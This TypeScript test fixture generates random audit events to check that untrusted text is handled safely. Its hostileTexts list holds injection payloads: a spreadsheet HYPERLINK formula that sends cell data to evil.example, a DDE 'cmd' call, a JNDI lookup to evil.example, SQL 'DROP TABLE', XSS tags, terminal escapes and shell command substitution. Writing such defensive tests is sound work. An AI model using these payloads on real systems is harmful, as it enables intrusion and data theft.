import * as fc from 'fast-check';
import { type AuditEvent, auditCodes } from '../../domain/audit-event.ts';
import { reasonCodes } from '../../domain/reason-code.ts';
import { findingKinds } from '../../domain/reconciliation/finding-kind.ts';
import { serialNumber } from '../../domain/serial-number.ts';
import * as z from 'zod/mini';
import { aCertificateId, aLine, aSerial, aTenant } from './identifiers.ts';

/** What somebody who names a device could hope that a reader of the audit takes for more than a name. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\u001b[2J\u001b]0;owned\u0007',
  'a\r\n{"auditEvent":{"code":"admission.granted"}}',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '\u202Egnp.exe',
  '"; DROP TABLE events; --',
  "'||'x",
  '${jndi:ldap://evil.example/a}',
  '\u2028\u2029\u0085',
  '__proto__',
  'constructor',
  '｜=cmd',
  '`id`$(id)',
];

/** A text as a device, an operator or AWS may bring it along: a hostile one, any other, or one of both. */
export const anyText: fc.Arbitrary<string> = fc
  .tuple(fc.oneof(fc.constantFrom(...hostileTexts), fc.string({ unit: 'grapheme', maxLength: 40 })), fc.string({ maxLength: 8 }))
  .map(([one, other]) => `${one}${other}`);

const someText = anyText.filter((text) => text !== '');

const anySerial = anyText.map((text) => z.safeParse(serialNumber, text).data ?? aSerial());

const actor: fc.Arbitrary<AuditEvent['actor']> = fc.oneof(
  fc.constant({ kind: 'device' as const }),
  someText.map((arn) => ({ kind: 'operator' as const, arn })),
  someText.map((name) => ({ kind: 'service' as const, name })),
);

const hash = fc.stringMatching(/^[0-9a-f]{64}$/);
const names = [
  'correlationId',
  'credentialId',
  'operation',
  'awsService',
  'resource',
  'awsReason',
  'scope',
  'proposedBy',
  'manufacturer',
] as const;

/** Any event: of every code, with any text where a text may come from elsewhere. */
export const anyEvent: fc.Arbitrary<AuditEvent> = fc
  .record({
    // None has an empty one: it would not be sealed.
    id: fc.oneof(fc.uuid(), someText),
    at: fc.nat(4_000_000_000_000),
    code: fc.constantFrom(...auditCodes),
    actor,
    more: fc.record(
      {
        ...Object.fromEntries(names.map((name) => [name, someText])),
        note: anyText,
        reason: fc.constantFrom(...reasonCodes),
        finding: fc.constantFrom(...findingKinds),
        serialNumber: anySerial,
        certificateId: fc.constant(aCertificateId('one')),
        addressDigest: hash,
        line: fc.constant(aLine()),
        tenant: fc.constant(aTenant()),
        leftOut: fc.nat(),
        lost: fc.nat(),
        since: fc.nat(),
        counts: fc.constant({ rows: 3, created: 1, unchanged: 1, conflicting: 1, refused: 0 }),
      },
      { requiredKeys: [] },
    ),
  })
  .map(({ more, ...event }): AuditEvent => ({ schemaVersion: 1, ...event, ...more }));
